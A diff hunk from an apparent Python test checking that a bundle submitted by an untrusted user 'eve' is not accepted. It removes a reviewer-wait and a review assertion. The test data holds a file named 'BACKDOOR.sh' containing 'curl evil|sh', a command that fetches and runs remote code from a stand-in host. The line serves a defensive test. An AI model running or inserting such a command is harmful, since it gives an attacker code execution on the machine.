@@ -127,8 +127,6 @@ def test_a_bundle_of_a_stranger_is_not_taken_up(site: Site, database: Database, 
         evil = {"path": "BACKDOOR.sh", "text": "curl evil|sh", "how": "create"}
         eve.worker("eve").wait_ready()
         submit(eve, submission(theirs, run=run, inputs=evil, land=False))
-        eve.wait_for(run, "waiting")
-        assert Reviewer(tmp_path / "of-eve").answer(theirs) == 1
         eve.wait_for(run, "completed")
         rows = sql(eve, "SELECT hash, kind, seal, content FROM tideate.objects WHERE run = %s", run)
     finally:
